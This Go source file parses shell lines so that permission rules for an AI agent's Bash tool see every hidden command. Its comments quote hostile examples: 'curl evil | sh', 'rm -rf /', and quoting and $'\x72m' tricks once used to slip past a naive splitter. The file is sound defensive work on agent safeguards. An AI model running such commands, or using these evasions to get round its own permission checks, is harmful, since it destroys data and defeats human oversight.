package policy

import (
	"strconv"
	"strings"
	"unicode/utf8"

	"mvdan.cc/sh/v3/syntax"
)

// A Bash rule read as a plain glob over the whole command line would let
// Bash(npm test:*) allow "npm test && curl evil | sh", and let
// "echo hi; rm -rf /" slip past Bash(rm -rf *). Like Claude Code, rules
// therefore look at each simple command of a line: deny and ask rules match
// when any command (or the whole line) matches, allow rules only when every
// command does.
//
// The line is read by a real shell parser (mvdan.cc/sh), so quoting, line
// continuations, comments, heredocs, $'…' strings, substitutions and
// control flow hide no command from the deny rules: a hand-written splitter
// was walked around by `echo $'\''; rm -rf /tmp/x` and by a comment ending
// in a quote. Where a line does something no rule can see through, it says
// so: opaque lines (substitutions, control flow, wrappers such as sudo,
// environment assignments, words only known when it runs) are never allowed
// by an allow rule; hidden ones (a line that does not parse, a command name
// only known when it runs, eval, a shell or source running code from a
// string, a file or its input) are asked about at most, whatever else the
// policy says.

// shellLine is a command line as the rules see it.
type shellLine struct {
	parts  []string // each simple command, as text
	opaque bool     // an allow rule cannot vouch for the line
	hidden bool     // the line runs code no rule can see: ask at most
}

// commandWrappers run the command that follows them (after their options),
// each with the options that take a value as the next word: a rule about
// rm must meet "sudo -u root rm -rf /".
var commandWrappers = map[string]string{
	"sudo": "ugpChDrtUT", "doas": "uC", "env": "uCS", "nohup": "", "exec": "a", "command": "", "builtin": "",
	"nice": "n", "timeout": "sk", "stdbuf": "ioe", "ionice": "cnp", "setsid": "", "xargs": "IinPLsdEa",
}

// codeRunners run code that is not on the line: a string, a file, their
// input.
var codeRunners = map[string]bool{
	"eval": true, "source": true, ".": true,
	"sh": true, "bash": true, "zsh": true, "dash": true, "ksh": true, "mksh": true, "fish": true, "csh": true, "tcsh": true,
}

// parseShell reads a command line into its simple commands.
func parseShell(line string) shellLine {
	f, err := syntax.NewParser(syntax.Variant(syntax.LangBash)).Parse(strings.NewReader(line), "")
	if err != nil {
		return shellLine{opaque: true, hidden: true}
	}
	var sl shellLine
	syntax.Walk(f, func(n syntax.Node) bool {
		switch n := n.(type) {
		case *syntax.Stmt:
			if call, ok := n.Cmd.(*syntax.CallExpr); ok {
				sl.addCommand(call, n.Redirs)
			}
		case *syntax.CmdSubst, *syntax.ProcSubst, *syntax.Subshell, *syntax.IfClause, *syntax.WhileClause,
			*syntax.ForClause, *syntax.CaseClause, *syntax.FuncDecl, *syntax.CoprocClause, *syntax.TimeClause,
			*syntax.DeclClause, *syntax.LetClause, *syntax.TestClause, *syntax.ArithmCmd, *syntax.ArithmExp:
			sl.opaque = true
		}
		return true
	})
	return sl
}

// addCommand adds one simple command: its words after any wrappers, with
// its redirections, and also as written when wrappers were stripped, so a
// rule about either form meets it.
func (sl *shellLine) addCommand(call *syntax.CallExpr, redirs []*syntax.Redirect) {
	if len(call.Assigns) > 0 {
		sl.opaque = true // PATH=. or NODE_OPTIONS=… change what runs
	}
	if len(call.Args) == 0 {
		return
	}
	words := make([]string, len(call.Args))
	dynamic := make([]bool, len(call.Args))
	for i, w := range call.Args {
		words[i], dynamic[i] = wordText(w)
		if dynamic[i] {
			sl.opaque = true
		}
	}
	start := 0
	for start < len(words) && !dynamic[start] {
		wrapper := words[start]
		valued, ok := commandWrappers[wrapper]
		if !ok {
			break
		}
		sl.opaque = true
		start++
		// The wrapper's own options and arguments: "-u root", "FOO=1",
		// a timeout's duration. What is left starts with the command.
		for start < len(words) && !dynamic[start] {
			w := words[start]
			switch {
			case w == "--":
				start++
			case len(w) == 2 && w[0] == '-' && strings.IndexByte(valued, w[1]) >= 0:
				start += 2 // "-u root"
				continue
			case strings.HasPrefix(w, "-"), strings.Contains(w, "="), wrapper == "timeout" && looksLikeDuration(w):
				start++
				continue
			}
			break
		}
	}
	switch {
	case start >= len(words):
		// A wrapper alone ("exec 3>&1", "env"): nothing more runs.
	case dynamic[start]:
		sl.hidden = true // the command itself is only known when it runs
	case codeRunners[words[start]] || codeRunners[baseName(words[start])]:
		sl.hidden = true
	}
	suffix := redirText(redirs)
	sl.parts = append(sl.parts, strings.Join(words[start:], " ")+suffix)
	if start > 0 {
		sl.parts = append(sl.parts, strings.Join(words, " ")+suffix)
	}
}

// wordText is what a word says: its value when the line alone decides it,
// else its source (dynamic: a parameter, a substitution, a glob's match).
func wordText(w *syntax.Word) (string, bool) {
	var b strings.Builder
	for _, part := range w.Parts {
		switch p := part.(type) {
		case *syntax.Lit:
			b.WriteString(unescape(p.Value, ""))
		case *syntax.SglQuoted:
			if p.Dollar {
				b.WriteString(ansiC(p.Value))
			} else {
				b.WriteString(p.Value)
			}
		case *syntax.DblQuoted:
			for _, q := range p.Parts {
				lit, ok := q.(*syntax.Lit)
				if !ok {
					return source(w), true
				}
				b.WriteString(unescape(lit.Value, "$`\"\\\n"))
			}
		default:
			return source(w), true
		}
	}
	return b.String(), false
}

// unescape removes the backslashes the shell removes: before any character
// unquoted (only), or only before those in within double quotes.
func unescape(s, only string) string {
	if !strings.Contains(s, `\`) {
		return s
	}
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		if s[i] == '\\' && i+1 < len(s) && (only == "" || strings.IndexByte(only, s[i+1]) >= 0) {
			i++
			if s[i] != '\n' { // a line continuation vanishes
				b.WriteByte(s[i])
			}
			continue
		}
		b.WriteByte(s[i])
	}
	return b.String()
}

// ansiC decodes the escapes of a $'…' string, so that $'\x72m' is rm.
func ansiC(s string) string {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		if s[i] != '\\' || i+1 >= len(s) {
			b.WriteByte(s[i])
			continue
		}
		i++
		switch c := s[i]; c {
		case 'a':
			b.WriteByte('\a')
		case 'b':
			b.WriteByte('\b')
		case 'e', 'E':
			b.WriteByte(0x1b)
		case 'f':
			b.WriteByte('\f')
		case 'n':
			b.WriteByte('\n')
		case 'r':
			b.WriteByte('\r')
		case 't':
			b.WriteByte('\t')
		case 'v':
			b.WriteByte('\v')
		case 'x', 'u', 'U':
			digits := map[byte]int{'x': 2, 'u': 4, 'U': 8}[c]
			j := i + 1
			for j < len(s) && j-i-1 < digits && isHex(s[j]) {
				j++
			}
			if j == i+1 {
				b.WriteByte('\\')
				b.WriteByte(c)
				continue
			}
			n, _ := strconv.ParseUint(s[i+1:j], 16, 32)
			if c == 'x' {
				b.WriteByte(byte(n))
			} else {
				b.WriteRune(rune(n))
			}
			i = j - 1
		case '0', '1', '2', '3', '4', '5', '6', '7':
			j := i
			for j < len(s) && j-i < 3 && s[j] >= '0' && s[j] <= '7' {
				j++
			}
			n, _ := strconv.ParseUint(s[i:j], 8, 16)
			b.WriteByte(byte(n))
			i = j - 1
		case 'c':
			if i+1 < len(s) {
				i++
				b.WriteByte(s[i] & 0x1f)
			}
		default: // \\ \' \" \? and anything unknown: the character
			b.WriteByte(c)
		}
	}
	if !utf8.ValidString(b.String()) {
		return strings.ToValidUTF8(b.String(), "\uFFFD")
	}
	return b.String()
}

func isHex(c byte) bool {
	return c >= '0' && c <= '9' || c >= 'a' && c <= 'f' || c >= 'A' && c <= 'F'
}

// redirText is a command's redirections as written, for rules that mention
// them ("> /etc/passwd"); a heredoc's body is data, left out.
func redirText(redirs []*syntax.Redirect) string {
	var b strings.Builder
	for _, r := range redirs {
		b.WriteByte(' ')
		if r.N != nil {
			b.WriteString(r.N.Value)
		}
		b.WriteString(r.Op.String())
		if r.Word != nil {
			b.WriteString(source(r.Word))
		}
	}
	return b.String()
}

// source prints a node as shell source.
func source(n syntax.Node) string {
	var b strings.Builder
	_ = syntax.NewPrinter(syntax.Minify(true)).Print(&b, n)
	return b.String()
}

func baseName(path string) string {
	return path[strings.LastIndexByte(path, '/')+1:]
}

func looksLikeDuration(s string) bool {
	s = strings.TrimRight(s, "smhd")
	_, err := strconv.ParseFloat(s, 64)
	return err == nil
}
